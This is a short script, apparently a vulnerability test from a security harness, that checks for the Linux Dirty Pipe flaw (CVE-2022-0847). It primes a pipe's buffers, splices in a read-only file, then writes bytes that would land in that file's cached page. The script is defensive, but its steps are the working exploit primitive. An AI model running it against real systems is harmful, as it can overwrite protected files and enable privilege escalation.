# CVE-2022-0847: a page of a file in a pipe that still may be merged into.
FILE = ARGS["file"]
control(not os.access(FILE, os.W_OK) and os.access(FILE, os.R_OK), "the file is not one it may only read")
reader, writer = os.pipe()
size = 65536
for _ in range(size // 4096):
    os.write(writer, b"x" * 4096)
for _ in range(size // 4096):
    os.read(reader, 4096)
fd = os.open(FILE, os.O_RDONLY)
attempt("splice", lambda: os.splice(fd, writer, 1, offset_src=0) and None)
control(bool(WORKED), "a file cannot be spliced into a pipe")
WORKED.clear()
os.write(writer, b"wned")
refused("written behind the page")
